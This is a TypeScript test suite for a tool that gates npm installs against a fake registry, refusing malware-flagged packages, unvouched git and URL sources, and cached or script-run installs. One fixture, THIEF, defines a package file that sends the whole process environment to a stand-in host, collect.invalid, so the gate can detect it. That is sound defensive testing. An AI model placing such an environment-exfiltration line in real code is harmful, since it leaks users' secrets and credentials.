import assert from 'node:assert/strict';
import { execFileSync, spawn } from 'node:child_process';
import { chmodSync, existsSync, mkdirSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { delimiter, join } from 'node:path';
import { after, before, describe, it } from 'node:test';

import { findProgram } from '../../src/gate/clients/find-program.ts';
import { everyClient } from '../../src/gate/clients/nested.ts';
import { REFUSED } from '../../src/model/gated.ts';
import { startGround } from '../gate/ground.ts';
import type { Ground, Spot } from '../gate/ground.ts';
import type { FakePackage } from '../registry.ts';
import { BIN, runUnmask } from './run-unmask.ts';

/** Every client in every situation is proven by `npm run bench:gate`; this is the part that the npm of this machine can show. */
const npm = findProgram('npm', process.env);

const manifest = (dependencies: object): FakePackage => ({
  versions: { '1.0.0': { manifest: { dependencies }, files: { 'package.json': { name: 'dependent', version: '1.0.0', dependencies } } } },
});

/** Its host does not exist; that it would send the environment there is what its examination finds. */
const THIEF = { 'index.js': `require('https').request('https://collect.invalid/?' + JSON.stringify(process.env)).end();\n` };

describe('unmask npm', { skip: npm === undefined ? 'there is no npm on the PATH' : false }, () => {
  let ground: Ground;
  let spots = 0;
  const spot = (content: object = {}, npmrc = ''): Spot => {
    spots += 1;
    return ground.spot(`p${spots}`, content, npmrc);
  };

  before(async () => {
    ground = await startGround(
      {
        good: { versions: { '1.0.0': {} } },
        dependent: manifest({ good: '^1.0.0' }),
        bad: { versions: { '1.0.0': {}, '1.6.6': {} } },
        thief: { versions: { '1.0.0': { files: THIEF } } },
      },
      [],
    );
    await ground.condemn({ bad: ['1.6.6'] });
  });
  after(() => ground.close());

  it('installs as npm does, says so in one line, and leaves nothing of the gate behind', async () => {
    const at = spot();
    const { code, err, run } = await at.gated('npm', 'install', 'dependent');
    assert.equal(code, 0, err);
    assert.deepEqual([at.installed('dependent'), at.installed('good')], ['1.0.0', '1.0.0']);
    assert.match(err, /^unmask: nothing refused; 2 of 2 locked decided; the newest record is 1 hour old$/m);
    assert.ok(!/127\.0\.0\.1:\d+\/npm\//.test(at.read('package-lock.json') ?? ''));
    assert.deepEqual([run?.exit, run?.child, run?.refused], [0, 0, []]);
    const { start = 0, before = 0, client = 0, after = 0 } = run?.took ?? {};
    assert.ok(start > 0 && before > 0 && client > 0 && after > 0, JSON.stringify(run?.took));
  });

  it('refuses what is known to be bad, with 77 and in words, and takes another version where one will do', async () => {
    const at = spot();
    const { code, err } = await at.gated('npm', 'install', 'bad@1.6.6');
    assert.equal(code, REFUSED);
    assert.equal(at.installed('bad'), undefined);
    assert.match(err, /^REFUSED {2}bad@1\.6\.6$/m);
    assert.match(err, /Its code did not reach this disk\./);
    assert.match(err, /Choose another\s+version\s+or\s+package;[^]*unmask\s+intel\s+explain\s+bad\s+\(UNMASK-/);
    const ranged = await at.gated('npm', 'install', 'bad@^1.0.0');
    assert.deepEqual([ranged.code, at.installed('bad')], [0, '1.0.0']);
    assert.match(ranged.err, /^unmask: bad@1\.6\.6 was withheld/m);
  });

  it('tells of a version that was left out only who asked for it, and keeps npm’s own code where it failed for something else', async () => {
    ground.registry.set('lines', { versions: { '1.0.0': {}, '1.1.0': {}, '2.0.0': {} } });
    ground.registry.set('on-lines', manifest({ lines: '~1.0.0' }));
    await ground.condemn({ lines: ['1.1.0', '2.0.0'] });
    const told = async (dependencies: object, scripts: object = {}): Promise<readonly unknown[]> => {
      const at = spot({ dependencies, scripts });
      const { code, err, run } = await at.gated('npm', 'install');
      assert.equal(run?.passedOver.length, err.match(/ was withheld/g)?.length ?? 0, err);
      return [code, run?.refused.map(one => one.version), run?.passedOver.map(one => one.version)];
    };
    assert.deepEqual(await told({ lines: '~1.0.0' }), [0, [], []]);
    assert.deepEqual(await told({ lines: '^1.0.0' }), [0, [], ['1.1.0']]);
    assert.deepEqual(await told({ lines: '*' }), [0, [], ['2.0.0']]);
    assert.deepEqual(await told({ 'on-lines': '1.0.0' }), [0, [], []]);
    assert.deepEqual(await told({ lines: '^2.0.0' }), [REFUSED, ['2.0.0'], []]);
    // It fails, and not for what was left out.
    assert.deepEqual(await told({ lines: '~1.0.0' }, { preinstall: 'exit 9' }), [9, [], []]);
    assert.deepEqual(await told({ 'on-lines': '1.0.0' }, { postinstall: 'exit 9' }), [9, [], []]);
    ground.registry.set('on-lines', manifest({ lines: '^2.0.0' }));
    assert.deepEqual(await told({ 'on-lines': '1.0.0' }), [REFUSED, ['2.0.0'], []]);
  });

  it('ends with 77 where an optional dependency was left out in silence', async () => {
    const at = spot({ dependencies: { good: '1.0.0' }, optionalDependencies: { bad: '1.6.6' } });
    const { code, run } = await at.gated('npm', 'install');
    assert.deepEqual([code, run?.refused.map(one => one.name), at.installed('bad')], [REFUSED, ['bad'], undefined]);
  });

  it('decides about what is only fetched, too, from a registry with a port', async () => {
    const at = spot();
    for (const words of [
      ['pack', 'thief'],
      ['cache', 'add', 'thief@1.0.0'],
      ['diff', '--diff=thief@1.0.0', '--diff=good@1.0.0'],
    ]) {
      const { code, err } = await at.gated('npm', ...words);
      assert.equal(code, REFUSED, `${words.join(' ')}: ${err}`);
      assert.match(err, /^REFUSED {2}thief@1\.0\.0$/m);
    }
    assert.ok(!existsSync(join(at.folder, 'thief-1.0.0.tgz')));
    assert.equal((await at.gated('npm', 'pack', 'good')).code, 0);
  });

  it('refuses a lockfile before npm is started, also where npm’s cache is warm', async () => {
    ground.registry.set('turns', { versions: { '1.0.0': {} } });
    const at = spot({ dependencies: { turns: '1.0.0' } });
    assert.equal((await at.gated('npm', 'install')).code, 0);
    await ground.condemn({ turns: ['1.0.0'] });
    rmSync(join(at.folder, 'node_modules'), { recursive: true });
    const { code, err, run } = await at.gated('npm', 'ci');
    assert.deepEqual([code, run?.child, existsSync(join(at.folder, 'node_modules'))], [REFUSED, undefined, false]);
    assert.match(err, /turns 1\.0\.0 is known malware.*Nothing was fetched\..*npm \d+\.\d+\.\d+ was not started/s);
  });

  it('has npm ci take what was decided about out of its cache, and scripts ask first all the same', async () => {
    const at = spot({ dependencies: { dependent: '1.0.0' }, scripts: { postinstall: 'npm config get prefer-online' } });
    assert.equal((await at.gated('npm', 'install')).code, 0);
    const { code, err, out } = await at.gated('npm', 'ci', '--loglevel=http', '--foreground-scripts');
    assert.deepEqual([code, at.installed('good')], [0, '1.0.0'], err);
    assert.equal(err.match(/ http cache \S*(?:good|dependent)\S* .*\(cache hit\)/g)?.length, 2, err);
    assert.doesNotMatch(err, /http fetch .*\.tgz/);
    assert.match(out, process.platform === 'win32' ? /^/ : /^true$/m);
    // A cache that the project ships is not believed.
    at.write('.npmrc', `cache=${join(at.folder, 'shipped')}\n`);
    assert.match((await at.gated('npm', 'ci', '--loglevel=http')).err, /http fetch GET 200 .*good-1\.0\.0\.tgz/);
  });

  it('asks no registry where everything is locked and was decided about before', async () => {
    const at = spot({ dependencies: { dependent: '1.0.0' } });
    assert.equal((await at.gated('npm', 'install')).code, 0);
    rmSync(join(at.folder, 'node_modules'), { recursive: true });
    const before = ground.registry.requests.length;
    const { code, err } = await at.gated('npm', 'install', '--loglevel=http');
    assert.deepEqual([code, at.installed('dependent'), at.installed('good')], [0, '1.0.0', '1.0.0'], err);
    assert.deepEqual(ground.registry.requests.slice(before), []);
    // The gate was asked all the same: npm believes its own cache for nothing but what is held by a hash.
    assert.match(err, /http fetch GET 200 \S+good-1\.0\.0\.tgz/);
    await ground.condemn({ good: ['1.0.0'] });
    rmSync(join(at.folder, 'node_modules'), { recursive: true });
    const refused = await at.gated('npm', 'install');
    await ground.condemn({ good: ['9.9.9'] });
    assert.deepEqual([refused.code, at.installed('good')], [REFUSED, undefined], refused.err);
  });

  it('refuses what comes from a repository or an address, unless it is waived', async () => {
    for (const specifier of ['git+https://git.invalid/x.git', 'https://files.invalid/x-1.0.0.tgz']) {
      const at = spot({ dependencies: { elsewhere: specifier } });
      const { code, err, run } = await at.gated('npm', 'install');
      assert.deepEqual([code, run?.child], [REFUSED, undefined], specifier);
      assert.match(err, /past every\s+registry.*"unvouched-source" to\s+unmask\.json/s);
    }
    const waived = spot({ dependencies: { elsewhere: 'file:elsewhere-1.0.0.tgz' } });
    assert.equal((await waived.gated('npm', 'install')).code, REFUSED);
    const waiver = { package: 'elsewhere', detector: 'unvouched-source', reason: 'ours', owner: 'us', until: '2999-01-01' };
    waived.write('unmask.json', { waivers: [waiver] });
    const { run } = await waived.gated('npm', 'install');
    assert.deepEqual([run?.refused, run?.child !== undefined], [[], true]);
  });

  it('cannot decide about a lockfile that it cannot read: 2, and npm is not started', async () => {
    const at = spot();
    at.write('package-lock.json', '{"lockfileVersion":3,\n<<<<<<< HEAD\n');
    const { code, err, run } = await at.gated('npm', 'install');
    assert.deepEqual([code, run?.child], [2, undefined]);
    assert.match(err, /^UNDECIDED {2}package-lock\.json:2 could not be read: it holds the marks of a merge conflict/m);
  });

  it('leads a scope with a registry of its own through the gate, with the token that belongs to it', async () => {
    ground.registry.set('@own/lib', { versions: { '1.0.0': {} }, token: 'own-token' });
    const { url } = ground.registry;
    const at = spot({ dependencies: { '@own/lib': '1.0.0' } }, `@own:registry=${url}\n${url.replace('http:', '')}:_authToken=own-token\n`);
    const { code, err, run } = await at.gated('npm', 'install');
    assert.equal(code, 0, err);
    assert.deepEqual([at.installed('@own/lib'), run?.coverage.decided], ['1.0.0', 1]);
    assert.ok(!/127\.0\.0\.1:\d+\/npm\//.test(at.read('package-lock.json') ?? ''));
  });

  it('gates what a script installs, without a second gate', async () => {
    const at = spot({
      scripts: {
        again: `"${process.execPath}" "${BIN}" npm install --unmask-json=second.json --no-save bad@1.6.6`,
        prepare: 'npm run again',
      },
    });
    const { code, run } = await at.gated('npm', 'install', '--foreground-scripts');
    assert.deepEqual([code, run?.refused.map(one => one.name), at.installed('bad')], [REFUSED, ['bad'], undefined]);
    // It is led to the first gate, which decides and tells.
    const second: { readonly refused: unknown; readonly child: unknown } = JSON.parse(at.read('second.json') ?? '');
    assert.deepEqual([second.refused, second.child], [[], 1]);
  });

  it('holds what a script installs from a lockfile against the records, where npm’s cache has it all', async () => {
    ground.registry.set('turns-inside', { versions: { '1.0.0': {} } });
    const inner = spot({ dependencies: { 'turns-inside': '1.0.0' } });
    assert.equal((await inner.gated('npm', 'install')).code, 0);
    rmSync(join(inner.folder, 'node_modules'), { recursive: true });
    await ground.condemn({ 'turns-inside': ['1.0.0'] });
    const outer = spot({ scripts: { prepare: `cd "${inner.folder}" && "${process.execPath}" "${BIN}" npm ci --unmask-json=inner.json` } });
    const { code, out, err } = await outer.gated('npm', 'install', '--foreground-scripts');
    const run: { readonly exit: number; readonly child?: number } = JSON.parse(inner.read('inner.json') ?? '{}');
    assert.deepEqual([run.exit, run.child, inner.installed('turns-inside')], [REFUSED, undefined, undefined], out + err);
    assert.notEqual(code, 0);
  });

  it('has the gate around it decide about what a script would install from a cache', async () => {
    ground.registry.set('withdrawn', { versions: { '1.0.0': {} } });
    const inner = spot({ dependencies: { withdrawn: '1.0.0', good: '1.0.0' } });
    assert.equal((await inner.gated('npm', 'install')).code, 0);
    const again = async (): Promise<readonly unknown[]> => {
      rmSync(join(inner.folder, 'node_modules'), { recursive: true, force: true });
      const outer = spot({
        scripts: { prepare: `cd "${inner.folder}" && "${process.execPath}" "${BIN}" npm ci --unmask-json=inner.json` },
      });
      await outer.gated('npm', 'install', '--foreground-scripts');
      const run: { readonly exit: number; readonly child?: number } = JSON.parse(inner.read('inner.json') ?? '{}');
      return [run.exit, run.child, inner.installed('withdrawn')];
    };
    assert.deepEqual(await again(), [0, 0, '1.0.0']);
    ground.registry.set('withdrawn', { versions: { '2.0.0': {} } });
    assert.deepEqual(await again(), [2, undefined, undefined]);
  });

  it('takes no server for a gate that only answers', async () => {
    const server = createServer((_, response) => response.end('{"response":"00"}'));
    await new Promise<void>(resolve => server.listen(0, '127.0.0.1', resolve));
    try {
      const address = server.address();
      assert.ok(typeof address === 'object' && address !== null);
      const outer = `http://127.0.0.1:${address.port}/npm/`;
      const env = { ...ground.env, ...everyClient({ registry: outer }), npm_config_registry: ground.registry.url };
      for (const secret of [undefined, 'guessed']) {
        const at = spot();
        const { code } = await runUnmask(['npm', 'install', 'bad@1.6.6'], {
          cwd: at.folder,
          env: { ...env, UNMASK_GATE: outer, UNMASK_GATE_SECRET: secret },
        });
        assert.deepEqual([code, at.installed('bad')], [REFUSED, undefined]);
      }
    } finally {
      server.close();
    }
  });

  it('refuses what is packed, or run, by another name than that of an installed program', async () => {
    const tool = (npmrc = ''): Spot => {
      const at = spot({}, `${npmrc}yes=true\n`);
      at.write('node_modules/.bin/thing', '#!/bin/sh\n');
      return at;
    };
    for (const [at, words] of [
      [spot(), ['pack', 'bad@1.6.6']],
      [tool(), ['exec', 'thing', '--package=bad@1.6.6']],
      [tool('package=bad@1.6.6\n'), ['exec', 'thing']],
    ] as const) {
      const { code, run } = await at.gated('npm', ...words);
      assert.deepEqual([code, run?.refused.map(one => one.name), at.read('bad-1.6.6.tgz')], [REFUSED, ['bad'], undefined], words.join(' '));
    }
    const address = 'package=https://files.invalid/x-1.0.0.tgz';
    for (const [at, words] of [
      [spot(), [`--${address}`]],
      [spot({}, `${address}\n`), []],
    ] as const) {
      const { code, run } = await at.gated('npx', '-y', ...words, 'x');
      assert.deepEqual([code, run?.child], [REFUSED, undefined]);
    }
  });

  it('says before anything is run that its result has no place', async () => {
    const at = spot();
    for (const path of ['', '.', 'missing/run.json']) {
      const { code, err } = await runUnmask(['npm', `--unmask-json=${path}`, 'install', 'good'], { cwd: at.folder, env: ground.env });
      assert.deepEqual([code, at.installed('good')], [2, undefined]);
      assert.match(err, /--unmask-json=\S* names no file that could be written\.\n.*as in --unmask-json=result\.json/);
    }
  });

  it('cannot decide where no registry answers: 2, and the address to look at', async () => {
    const at = spot();
    const { code, err, run } = await at.gated('npm', 'install', 'good', '--registry=http://127.0.0.1:9/');
    assert.deepEqual([code, run?.refused, run?.undecided.length], [2, [], 1], err);
    assert.match(err, /Check the registry address/);
  });

  it('refuses what a plain list alone knows, by its name or its version, and has no answer for anything else', async () => {
    const list = join(ground.env['HOME'] ?? '', 'list.txt');
    writeFileSync(list, 'bad@1.6.6\nthief\ninstall\n');
    const env = { ...ground.env, UNMASK_INTEL: join(ground.env['HOME'] ?? '', 'intel-of-a-list') };
    const synced = await runUnmask(['intel', 'sync', '--from', list], { cwd: ground.env['HOME'] ?? '', env });
    assert.equal(synced.code, 0, synced.err);
    const run = (at: Spot, ...words: string[]) => runUnmask(['npm', 'install', ...words], { cwd: at.folder, env });
    for (const words of [['bad@1.6.6'], ['thief'], ['other@npm:bad@1.6.6'], ['good', 'thief@^1.0.0']]) {
      const at = spot();
      const { code, err } = await run(at, ...words);
      assert.equal(code, REFUSED, err);
      assert.match(err, /^REFUSED {2}(?:bad@1\.6\.6|thief)$[^]*Nothing was fetched/m);
      assert.equal(at.read('node_modules/.package-lock.json'), undefined);
    }
    const wanted = await run(spot({ devDependencies: { thief: '1.0.0' } }));
    assert.deepEqual([wanted.code, /^REFUSED {2}thief@1\.0\.0$/m.test(wanted.err)], [REFUSED, true], wanted.err);
    for (const words of [['good'], ['bad@1.0.0'], ['bad@^1.0.0']]) {
      const { code, err } = await run(spot(), ...words);
      assert.equal(code, 2, err);
      assert.match(err, /^UNDECIDED {2}It cannot be known/m);
      assert.doesNotMatch(err, /^REFUSED/m);
    }
  });

  it('hands on untouched what fetches nothing, with its own code', async () => {
    const at = spot({
      scripts: { env: 'node -p "[process.env.pnpm_config_registry, process.env.UNMASK_GATE].join()"', fails: 'exit 9' },
    });
    const { code, out, err, run } = await at.gated('npm', 'run', '--silent', 'env');
    assert.deepEqual([code, out.trim(), err, run], [0, ',', '', undefined]);
    assert.equal((await at.gated('npm', 'run', '--silent', 'fails')).code, 9);
    assert.match((await at.gated('npm', '--help')).out, /npm <command>/);
  });

  it('keeps the client’s own code where nothing was refused, and its signal', { skip: process.platform === 'win32' }, async () => {
    const at = spot({ scripts: { prepare: 'exit 7', waits: 'echo waiting; sleep 30' } });
    const { code, run } = await at.gated('npm', 'install');
    assert.deepEqual([code, run?.refused, run?.exit], [7, [], 7]);
    const child = spawn(process.execPath, [BIN, 'npm', 'run', 'waits'], {
      cwd: at.folder,
      env: ground.env,
      stdio: ['ignore', 'pipe', 'pipe'],
    });
    // Listened for at once: it may end before anybody asks for that.
    const exited = new Promise<NodeJS.Signals | null>(resolve => child.on('exit', (_, name) => resolve(name)));
    let said = '';
    const waits = new Promise<void>(resolve =>
      child.stdout.on('data', chunk => {
        said += String(chunk);
        // What npm says first may come with it in one piece.
        if (/^waiting$/m.test(said)) resolve();
      }),
    );
    await Promise.race([waits, exited]);
    // A shell that has just spoken may not have begun to wait: on a busy machine the signal met it between the two.
    await new Promise(resolve => void setTimeout(resolve, 500));
    child.kill('SIGTERM');
    const signal = await exited;
    // What its script started may outlive it, and holds the other end.
    child.stdout.destroy();
    child.stderr.destroy();
    assert.equal(signal, 'SIGTERM');
  });

  it('runs pnpx as the pnpm dlx that it is, by the pnpm beside it', { skip: process.platform === 'win32' }, async () => {
    const at = spot();
    const programs = join(at.folder, 'programs');
    // It stands for pnpm: it notes what it is given, and fetches nothing.
    at.write('programs/pnpm', '#!/bin/sh\n[ "$1" = --version ] && echo 9.15.9 || echo "$@" > given\n');
    at.write('programs/pnpx', '#!/bin/sh\nexit 9\n');
    for (const name of ['pnpm', 'pnpx']) chmodSync(join(programs, name), 0o755);
    const path = [programs, ground.env['PATH']].join(delimiter);
    const { code, err } = await runUnmask(['pnpx', 'good', '--version'], { cwd: at.folder, env: { ...ground.env, PATH: path } });
    assert.equal(code, 0, err);
    assert.match(at.read('given') ?? '', /^--config\.cache-dir=\S+ \S+ dlx good --version$/m);
  });

  it('says that there is no such client', async () => {
    const empty = join(spot().folder, 'empty');
    mkdirSync(empty);
    const run = (): string =>
      execFileSync(process.execPath, [BIN, 'npm', 'install'], { env: { PATH: empty }, encoding: 'utf8', stdio: 'pipe' });
    assert.throws(run, { status: 2, stderr: /There is no npm on the PATH\.\s+Install it first\. Nothing was run\./ });
  });
});
